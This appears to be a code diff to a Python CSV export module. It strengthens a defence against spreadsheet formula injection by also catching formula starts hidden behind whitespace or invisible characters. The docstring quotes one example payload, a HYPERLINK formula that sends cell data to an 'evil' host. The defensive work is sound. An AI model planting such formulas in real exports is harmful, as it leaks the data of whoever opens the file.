@@ -2,13 +2,17 @@
 
 Values come from tracked sites, so anyone can plant a page named
 `=HYPERLINK("http://evil/?"&A1)`. Spreadsheets run cells that start with
-=, +, - or @ (and a leading tab or carriage return can hide such a start), so
-such text cells are prefixed with a single quote, the usual defence
-(OWASP "CSV injection"). Numbers are ours and stay numbers.
+=, +, - or @, and some skip leading whitespace first (spaces, tabs, line
+breaks, Unicode spaces) or invisible format characters (a zero-width space,
+a byte order mark) that can hide such a start. So a text cell is prefixed
+with a single quote, the usual defence (OWASP "CSV injection"), when its
+first character that is neither is one of those four; a cell starting with a
+tab or carriage return always is. Numbers are ours and stay numbers.
 """
 
 import csv
 import io
+import unicodedata
 from collections.abc import Iterable, Iterator, Sequence
 
 from reports.labels import DIMENSION_LABELS
@@ -16,6 +20,7 @@ from reports.panels import Table
 from reports.queries import BreakdownRow, StatsQuery, breakdown
 
 DANGEROUS_STARTS = ("=", "+", "-", "@", "\t", "\r")
+FORMULA_STARTS = ("=", "+", "-", "@")
 PAGE_SIZE = 1000
 # An export holds at most this many rows; larger tables are long tails of ones.
 MAX_ROWS = 100_000
@@ -24,9 +29,19 @@ UNITS = {"count": "", "percent": " (%)", "duration": " (s)", "money": ""}
 
 def neutralise(cell: object) -> object:
     """A text cell a spreadsheet will show, never run; other values unchanged."""
-    if isinstance(cell, str) and cell.startswith(DANGEROUS_STARTS):
+    if not isinstance(cell, str):
+        return cell
+    if cell.startswith(DANGEROUS_STARTS) or _visible(cell).startswith(FORMULA_STARTS):
         return "'" + cell
     return cell
+
+
+def _visible(text: str) -> str:
+    """`text` from its first character that is not whitespace, a control or a format character."""
+    for i, char in enumerate(text):
+        if not (char.isspace() or unicodedata.category(char) in ("Cc", "Cf")):
+            return text[i:]
+    return ""
 
 
 def all_rows(
